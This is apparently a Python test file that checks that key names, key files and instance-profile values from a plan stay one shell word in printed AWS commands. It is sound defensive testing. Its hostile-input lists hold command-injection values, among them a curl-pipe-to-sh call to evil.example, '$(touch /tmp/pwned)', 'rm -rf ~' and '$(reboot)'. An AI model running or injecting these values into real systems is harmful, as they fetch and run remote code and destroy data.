"""Plan values in printed commands (issue 16 item 15): a key name, key file or instance profile
taken from a plan is one shell word in every command a rule prints, whatever it holds. The
commands are split the way a shell would (`shlex.split`) and the hostile value must come back
intact, as one argument, with nothing added around it."""

from __future__ import annotations

import shlex
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from preflight.inventory.model import Inventory
from tests.rules.cmp_support import REGION, run

HOSTILE = [
    "k; curl -s http://evil.example/x | sh #",
    "p$(touch /tmp/pwned)",
    "`id`",
    "a'b\"c",
    "name with spaces",
    "--help",
    "-rf",
    "$HOME",
    "x\\y",
    "ünïcode-鍵",
]
# What a plan may hold: printable text without control characters (those are refused earlier).
PLAN_TEXT = st.text(st.characters(blacklist_categories=("Cc", "Cs")), min_size=1, max_size=40).filter(
    lambda s: s.strip() == s and s != "")


def no_keys() -> Inventory:
    return Inventory(region=REGION, extra={"key_pairs": {"names": []}})


def no_profile(name: str) -> Inventory:
    return Inventory(region=REGION, extra={"instance_profiles": {"name": name, "found": False}})


def words_after(command: str, flag: str) -> str:
    words = shlex.split(command)
    return words[words.index(flag) + 1]


def commands(findings: list[Any]) -> list[str]:
    return [c for f in findings if f.fix is not None for c in f.fix.commands]


def assert_key_name_is_one_word(key_name: str) -> None:
    found = run("CMP004", no_keys(), {"key_name": key_name})
    [cmd] = commands(found)
    assert words_after(cmd, "--key-name") == key_name
    words = shlex.split(cmd)
    assert words[:3] == ["aws", "ec2", "import-key-pair"] and len(words) == 9, words


@pytest.mark.parametrize("value", HOSTILE)
def test_key_name_is_one_shell_word(value: str) -> None:
    assert_key_name_is_one_word(value)


@pytest.mark.parametrize("value", HOSTILE)
def test_instance_profile_is_one_shell_word(value: str) -> None:
    found = run("CMP005", no_profile(value), {"instance_profile": value})
    cmds = commands(found)
    assert len(cmds) == 2
    for cmd in cmds:
        assert words_after(cmd, "--instance-profile-name") == value
        assert shlex.split(cmd)[:2] == ["aws", "iam"]


@pytest.mark.parametrize("value", ["x; rm -rf ~", "$(reboot).pem", "a b.pem"])
def test_key_file_is_one_shell_word(value: str, tmp_path: Path) -> None:
    path = str(tmp_path / value)
    found = run("CMP004", Inventory(region=REGION, extra={"key_pairs": {"names": ["k"]}}),
                {"key_name": "k", "key_file": path})
    [cmd] = commands(found)
    assert shlex.split(cmd) == ["ls", "-l", "--", path]


@settings(max_examples=60, deadline=None)
@given(PLAN_TEXT)
def test_any_key_name_survives_the_shell(value: str) -> None:
    assert_key_name_is_one_word(value)
